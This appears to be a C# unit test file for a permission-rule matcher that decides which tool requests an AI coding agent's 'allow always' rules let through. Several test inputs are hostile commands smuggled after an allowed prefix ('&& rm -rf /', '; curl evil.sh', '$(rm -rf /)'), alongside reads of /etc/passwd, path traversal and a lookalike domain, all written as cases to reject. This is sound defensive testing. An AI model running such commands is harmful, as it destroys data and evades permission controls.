using System.Text.Json;
using Baton.Api.Permissions;

namespace Baton.Tests.Permissions;

/// <summary>The CLI's rule semantics, pinned case by case: what "allow always" lets through, and what it must not.</summary>
public sealed class PermissionRuleMatcherTests
{
    private const string Root = "/work/project";

    public static TheoryData<string, string, string, bool> Cases => new()
    {
        // A bare tool name covers every use of that tool, and only that tool.
        { "Edit", "Edit", """{"file_path":"/work/project/a.txt"}""", true },
        { "Bash", "Bash", """{"command":"rm -rf build"}""", true },
        { "Bash", "BashOutput", """{"bash_id":"1"}""", false },
        { "Write", "Edit", """{"file_path":"/work/project/a.txt"}""", false },
        { "Bash()", "Bash", """{"command":"ls"}""", true },
        // Bash prefix rules: the command and anything continuing it as further words.
        { "Bash(git status:*)", "Bash", """{"command":"git status"}""", true },
        { "Bash(git status:*)", "Bash", """{"command":"git status --short"}""", true },
        { "Bash(git status:*)", "Bash", """{"command":"git statusx"}""", false },
        { "Bash(git status:*)", "Bash", """{"command":"git stash"}""", false },
        { "Bash(git status:*)", "Bash", """{"command":"git status && rm -rf /"}""", false },
        { "Bash(git status:*)", "Bash", """{"command":"git status; curl evil.sh"}""", false },
        { "Bash(git status:*)", "Bash", """{"command":"git status | tee out.txt"}""", false },
        { "Bash(git status:*)", "Bash", """{"command":"git status $(rm -rf /)"}""", false },
        { "Bash(git status:*)", "Bash", """{"command":" git status"}""", true },
        // Exact and wildcard Bash rules.
        { "Bash(npm run test)", "Bash", """{"command":"npm run test"}""", true },
        { "Bash(npm run test)", "Bash", """{"command":"npm run test:watch"}""", false },
        { "Bash(npm run *)", "Bash", """{"command":"npm run build"}""", true },
        { "Bash(npm run *)", "Bash", """{"command":"npm install"}""", false },
        { "Bash(git status:*)", "Read", """{"file_path":"/work/project/a"}""", false },
        // File rules: gitignore-style globs from the project root.
        { "Read(src/**)", "Read", """{"file_path":"/work/project/src/app/main.ts"}""", true },
        { "Read(src/**)", "Read", """{"file_path":"src/main.ts"}""", true },
        { "Read(src/**)", "Read", """{"file_path":"/work/project/srcx/main.ts"}""", false },
        { "Read(src/**)", "Read", """{"file_path":"/work/project/lib/src/main.ts"}""", false },
        { "Read(src/**)", "Read", """{"file_path":"/work/project/../project2/src/a.ts"}""", false },
        { "Read(/src/*.ts)", "Read", """{"file_path":"/work/project/src/a.ts"}""", true },
        { "Read(/src/*.ts)", "Read", """{"file_path":"/work/project/src/deep/a.ts"}""", false },
        { "Edit(*.md)", "Edit", """{"file_path":"/work/project/docs/guide/intro.md"}""", true },
        { "Edit(*.md)", "Edit", """{"file_path":"/work/project/docs/intro.mdx"}""", false },
        { "Edit(docs/)", "Write", """{"file_path":"/work/project/docs/a/b.txt"}""", true },
        { "Edit(docs/a?.txt)", "Edit", """{"file_path":"/work/project/docs/ab.txt"}""", true },
        { "Edit(docs/a?.txt)", "Edit", """{"file_path":"/work/project/docs/abc.txt"}""", false },
        // Edit rules cover every editing tool; Read rules every reading tool; not the other way round.
        { "Edit(src/**)", "Write", """{"file_path":"/work/project/src/new.ts"}""", true },
        { "Edit(src/**)", "MultiEdit", """{"file_path":"/work/project/src/a.ts"}""", true },
        { "Edit(src/**)", "Read", """{"file_path":"/work/project/src/a.ts"}""", false },
        { "Read(src/**)", "Grep", """{"pattern":"x","path":"/work/project/src"}""", true },
        { "Read(src/**)", "Edit", """{"file_path":"/work/project/src/a.ts"}""", false },
        // Absolute patterns start with //.
        { "Read(//etc/hosts)", "Read", """{"file_path":"/etc/hosts"}""", true },
        { "Read(//etc/*)", "Read", """{"file_path":"/etc/ssh/sshd_config"}""", false },
        { "Read(src/**)", "Read", """{"file_path":"/etc/passwd"}""", false },
        // Web fetches by domain, and MCP servers by name.
        { "WebFetch(domain:example.com)", "WebFetch", """{"url":"https://docs.example.com/a"}""", true },
        { "WebFetch(domain:example.com)", "WebFetch", """{"url":"https://example.com.evil.net/a"}""", false },
        { "mcp__github", "mcp__github__create_issue", """{}""", true },
        { "mcp__github", "mcp__githubx__create_issue", """{}""", false },
        // Malformed rules match nothing.
        { "Bash(git status:*", "Bash", """{"command":"git status"}""", false },
        { "(git)", "Bash", """{"command":"git"}""", false },
        { "Read(src/**)", "Read", """{"file_path":42}""", false },
    };

    [Theory]
    [MemberData(nameof(Cases))]
    public void Rule_matches_exactly_the_requests_the_cli_would_let_through(string rule, string tool, string input, bool expected)
    {
        using var document = JsonDocument.Parse(input);

        Assert.Equal(expected, PermissionRuleMatcher.Matches(rule, tool, document.RootElement, Root));
    }
}
